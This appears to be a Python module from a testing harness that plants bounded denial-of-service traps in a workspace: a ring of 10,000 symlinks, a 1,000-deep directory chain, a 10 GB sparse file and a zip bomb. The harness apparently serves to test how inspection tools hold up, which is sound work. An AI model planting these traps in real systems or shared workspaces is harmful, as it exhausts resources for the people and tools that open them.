"""Tricks that are to make whoever looks at the workspace run out of something; all are bounded."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

from . import evidence
from .attack import Attack

LINKS = 10_000
DEPTH = 1_000
SPARSE = 10 << 30
UNPACKED = 100 << 20
_BLOCK = 1 << 20


def link_bomb(attack: Attack) -> None:
    """Make ten thousand links, each to the next and the last to the first."""
    place = _place(attack) / "links"
    place.mkdir()
    for number in range(LINKS):
        (place / f"{number}").symlink_to(f"{(number + 1) % LINKS}")
    (place / "loop").symlink_to("..", target_is_directory=True)
    evidence.tell("planted", path="links")


def deep_bomb(attack: Attack) -> None:
    """Make directories so deep that no path names the last one."""
    here = os.open(_place(attack), os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(DEPTH):
        os.mkdir("deep", dir_fd=here)
        inner = os.open("deep", os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(here)
    evidence.tell("planted", path="deep")


def sparse_bomb(attack: Attack) -> None:
    """Make a file of ten gigabytes that takes no room until somebody copies it."""
    with (_place(attack) / "sparse.bin").open("wb") as file:
        file.truncate(SPARSE)
    evidence.tell("planted", path="sparse.bin")


def zip_bomb(attack: Attack) -> None:
    """Make an archive that is small until somebody unpacks it."""
    path = _place(attack) / "bomb.zip"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w") as file,
    ):
        for _ in range(UNPACKED // _BLOCK):
            file.write(bytes(_BLOCK))
    evidence.tell("planted", path="bomb.zip")


def _place(attack: Attack) -> Path:
    """Choose a directory within the write scope, or the root if there is none."""
    for home in attack.homes():
        if attack.allowed(f"{home}/x".lstrip("/")):
            place = attack.workspace / home
            place.mkdir(parents=True, exist_ok=True)
            return place
    return attack.workspace


TRICKS = {
    "link-bomb": link_bomb,
    "deep-bomb": deep_bomb,
    "sparse-bomb": sparse_bomb,
    "zip-bomb": zip_bomb,
}
